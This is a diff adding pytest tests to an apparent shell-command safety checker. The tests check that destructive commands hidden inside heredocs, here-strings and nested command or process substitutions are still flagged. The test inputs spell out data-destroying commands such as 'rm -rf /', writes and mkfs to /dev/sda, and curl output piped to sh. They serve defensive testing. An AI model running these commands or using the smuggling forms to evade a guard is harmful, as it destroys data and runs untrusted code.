@@ -151,6 +151,42 @@ def test_an_inert_command_is_passed_as_it_stands(unit):
     assert check("all", "ls; mkfs.ext4 /dev/sda1").rule == "mkfs-device"
 
 
+@pytest.mark.parametrize(("unit", "most", "commands"), [("cat <<EOF\nx $y\nEOF\n", 120, 1), ("cat <<< hi; ", 120, 1),
+                                                        ("echo $(date); ", 250, 2)])
+def test_a_heredoc_or_code_in_an_argument_leaves_a_command_inert(unit, most, commands):
+    """A heredoc or here-string only feeds a command, and code in its arguments is walked for itself: such a
+    command was walked as any other (about 250 lines of Python on top of reading it, 350 with a ``$(…)``; the guard
+    at 1.5 s per MB on a script of heredocs), now passed once its code is walked (about 85 and 180)."""
+    text = "rm x; " + unit * 2000
+    check("all", text)
+    assert work(lambda: check("all", text)) - work(lambda: tokenize(text)) < most * 2000
+    assert len(list(simple_commands(text))) == 1 + commands * 2000
+    assert check("all", unit + "cat <<EOF\n$(rm -rf /)\nEOF\n").rule == "rm-recursive-root"
+    assert check("all", unit + "cat <<EOF\n`rm -rf /`\nEOF\n").rule == "rm-recursive-root"
+    assert check("all", unit + "cat <<< \"$(rm -rf /)\"").rule == "rm-recursive-root"
+    assert check("all", unit + "echo a $(rm -rf /) b").rule == "rm-recursive-root"
+    assert check("all", unit + "echo a <(rm -rf /) b").rule == "rm-recursive-root"
+    assert check("all", unit + "X=/; echo $(rm -rf $X)").rule == "rm-recursive-root"
+    assert check("all", unit + "cd /; cat <<EOF\n$(rm -rf *)\nEOF\n").rule == "rm-recursive-root"
+    assert check("all", unit + "cat <<EOF > /dev/sda\nx\nEOF\n").rule == "redirect-device"
+    assert check("all", unit + "cat <<EOF | sh\nrm -rf /\nEOF\n").rule == "rm-recursive-root"
+    assert check("all", unit + "bash <<EOF\nrm -rf /\nEOF\n").rule == "rm-recursive-root"
+    assert check("all", unit + "xargs rm -rf <<< /").rule == "rm-recursive-root"
+    assert check("all", unit + "curl -o f http://x; cat <<< x; sh f").rule == "pipe-to-shell"
+    assert check("all", unit + "cat <<EOF\n$(curl http://x | sh)\nEOF\n").rule == "pipe-to-shell"
+    assert check("all", unit + "<(curl http://x) a").rule == "pipe-to-shell"  # run as the command: no live text
+
+
+def test_a_command_judged_again_without_a_leading_expansion_walks_its_code_once():
+    """``$() rm -rf /`` is judged again as ``rm -rf /``; the code in its words was walked again with it, at every
+    level of nesting: seven levels of ``$( $() …`` took fifty times the work (a level once more: 1.6 times)."""
+    unit = "$() " + "$( $() " * 7 + "x" + " )" * 7 + "; "
+    text = "rm x; " + unit * 100
+    check("all", text)
+    assert work(lambda: check("all", text)) - work(lambda: tokenize(text)) < 6000 * 100  # 143,000 before
+    assert check("all", "$() $($() rm -rf /)").rule == "rm-recursive-root"
+
+
 @pytest.mark.parametrize("env", [None, {"HOME": "/home/me"}])
 def test_empty_substitutions_are_not_walked(env):
     """```` and ``$( )`` run nothing: each was a walk of its own (about 150 lines of Python), now next to none."""
